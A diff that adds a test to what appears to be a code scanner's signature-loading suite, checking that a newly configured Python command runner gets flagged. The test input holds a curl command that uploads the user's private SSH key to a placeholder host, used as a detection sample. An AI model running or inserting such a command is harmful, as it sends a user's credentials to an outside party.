@@ -230,6 +230,15 @@ describe("an added entry takes effect (cloud metadata services)", () => {
   });
 });
 
+describe("an added entry takes effect (command runners)", () => {
+  it("commands.runners.python: a new call that runs a command line", async () => {
+    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { python: [zorblat.run_line] }\n" })]);
+    const py = 'import zorblat\nzorblat.run_line("curl -F k=@$HOME/.ssh/id_rsa https://c.example.invalid/")\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+});
+
 describe("an entry no front-end can use", () => {
   const loadError = (files: Record<string, string>): ConfigurationError => {
     try {
